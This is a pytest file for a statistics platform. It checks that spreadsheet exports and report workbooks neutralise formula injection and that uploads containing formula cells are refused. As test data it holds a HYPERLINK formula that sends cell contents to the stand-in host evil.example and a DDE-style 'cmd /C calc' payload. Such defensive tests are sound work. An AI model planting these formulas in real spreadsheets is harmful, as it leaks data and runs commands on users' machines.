"""Spreadsheet formula injection (#21 item 4): text leaves the platform as text.

A stored text such as ``=HYPERLINK("http://…"&A2,"和平区统计局")`` comes back from
``/explore/export`` as a string cell of the xlsx (openpyxl's ``data_type`` ``'s'``, never
``'f'``) and with a leading apostrophe in the CSV; the report workbook keeps narrative and
table text as text; and an uploaded workbook with a formula cell that has no ``r=`` reference
(whose cached value used to be stored) is refused with the cell's location.
"""

from __future__ import annotations

import csv
import io
import re
import sys
import zipfile
from datetime import date, datetime
from pathlib import Path

import pandas as pd
import pytest
from openpyxl import load_workbook
from sqlalchemy.orm import Session

from consumption_monitor.cellsafe import csv_text
from consumption_monitor.compute.steps import ComputeResult
from consumption_monitor.config import Settings
from consumption_monitor.report.model import Cell, Report, Section, Table
from consumption_monitor.report.xlsx_writer import write_xlsx
from consumption_monitor.store.results import COLUMNS, write_result

sys.path.insert(0, str(Path(__file__).resolve().parents[1] / "ingest"))
from builders import HEAD_ZH, human_rows
from builders import write_xlsx as write_input_xlsx

EVIL = '=HYPERLINK("http://evil.example/?d="&A2,"和平区统计局")'
OTHERS = ("+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)", "\tTAB", "\rCR")


def _table() -> pd.DataFrame:
    rows = [
        {"indicator": "retail_sales", "region": "120000", "period": f"2025-0{m}",
         "basis": "ytd", "dim": "", "dim_value": "", "value": -12.5 if m == 2 else 100.0 * m,
         "note": note, "provisional": False}
        for m, note in zip(range(1, 7), (EVIL, *OTHERS), strict=True)
    ]  # fmt: skip
    table = pd.DataFrame(rows).reindex(columns=list(COLUMNS))
    table["vintage"] = date(2025, 8, 20)
    table["computed_at"] = pd.Timestamp("2025-08-20")
    return table


@pytest.fixture
def seeded(settings: Settings) -> Settings:
    write_result(settings, ComputeResult(table=_table(), vintage=date(2025, 8, 20)))
    return settings


QUERY = "indicator=retail_sales&basis=ytd&start=2025-01&end=2025-06"


def test_explorer_xlsx_export_writes_text_as_text(client, users, h, seeded) -> None:
    h.as_user(client, users.ids["viewer"])
    out = client.get(f"/explore/export?{QUERY}&format=xlsx")
    assert out.status_code == 200
    sheet = load_workbook(io.BytesIO(out.content)).active
    cells = [c for row in sheet.iter_rows() for c in row]
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    # (xlsx stores a carriage return escaped as _x000D_, which openpyxl does not decode.)
    texts = [t.replace("\r", "_x000D_") for t in (EVIL, *OTHERS)]
    notes = {c.value: c.data_type for c in cells if c.value in texts}
    assert notes == dict.fromkeys(texts, "s")
    # The raw sheet XML holds no <f> element at all, so no spreadsheet evaluates anything.
    with zipfile.ZipFile(io.BytesIO(out.content)) as zf:
        xml = zf.read("xl/worksheets/sheet1.xml")
    assert not re.search(rb"<f[ >]", xml)
    # Numbers are still numbers.
    values = [c.value for c in sheet["G"][1:]]
    assert values == [100.0, -12.5, 300.0, 400.0, 500.0, 600.0]


def test_explorer_csv_export_neutralises_formula_starts(client, users, h, seeded) -> None:
    h.as_user(client, users.ids["viewer"])
    out = client.get(f"/explore/export?{QUERY}&format=csv")
    assert out.status_code == 200
    rows = list(csv.DictReader(io.StringIO(out.content.decode("utf-8-sig"), newline="")))
    assert [r["note"] for r in rows] == ["'" + t for t in (EVIL, *OTHERS)]
    assert [r["value"] for r in rows][:2] == ["100.0", "-12.5"]  # a negative number untouched


def test_csv_text_rule() -> None:
    for start in ("=", "+", "-", "@", "\t", "\r"):
        assert csv_text(f"{start}x") == f"'{start}x"
    assert csv_text("-12.5") == "-12.5" and csv_text("+3") == "+3" and csv_text("1e5") == "1e5"
    assert csv_text("和平区") == "和平区" and csv_text("") == ""


def test_report_workbook_keeps_text_as_text(tmp_path: Path) -> None:
    table = Table("t", "表", ["地区", "值"], rows=[[Cell(EVIL), Cell("12.5", 12.5)]], note=EVIL)
    section = Section("s", "第一部分", paragraphs=[EVIL], tables=[table], notes=[EVIL])
    report = Report("monthly", "2025-07", "zh", "月报", "副标题", datetime(2025, 8, 1),
                    sections=[section])  # fmt: skip
    path = write_xlsx(report, {}, tmp_path / "r.xlsx")
    book = load_workbook(path)
    cells = [c for ws in book.worksheets for row in ws.iter_rows() for c in row]
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    evil = [c for c in cells if c.value == EVIL]
    assert len(evil) == 4 and {c.data_type for c in evil} == {"s"}
    assert any(c.value == 12.5 and c.data_type == "n" for c in cells)


def _formula_without_reference(path: Path) -> Path:
    """An input workbook whose G3 (retail sales) is ``<c><f>…</f><v>99</v></c>``: a formula
    with a cached value and no ``r=`` attribute (Excel locates it by position)."""
    good = write_input_xlsx(path.with_name("good.xlsx"), HEAD_ZH, human_rows())
    with zipfile.ZipFile(good) as zi, zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as zo:
        for info in zi.infolist():
            data = zi.read(info.filename)
            if info.filename == "xl/worksheets/sheet1.xml":
                data, n = re.subn(rb'<c r="G3"[^>]*>.*?</c>', b"<c><f>A1&amp;B1</f><v>99</v></c>",
                                  data, count=1, flags=re.S)  # fmt: skip
                assert n == 1
                data = data.replace(b'<row r="3">', b"<row>")  # the row has no r= either
            zo.writestr(info.filename, data)
    return path


def test_upload_refuses_a_formula_cell_without_reference(
    client, db: Session, users, h, tmp_path: Path
) -> None:
    book = _formula_without_reference(tmp_path / "formula.xlsx")
    secret = h.token_for(db, "office", ["enterprise_monthly"])
    response = client.post(
        "/api/v1/datasets/enterprise_monthly/batches",
        headers=h.bearer(secret),
        files={"file": ("formula.xlsx", book.read_bytes(), "application/octet-stream")},
    )
    assert response.status_code == 422, response.text
    error = response.json()["error"]
    assert error["where"]["row"] == 3 and error["where"]["column"] == "G"
    assert "公式" in error["message_zh"] and "formula" in error["message_en"]
    listed = client.get("/api/v1/datasets/enterprise_monthly/batches", headers=h.bearer(secret))
    assert listed.json()["count"] == 0  # nothing was loaded
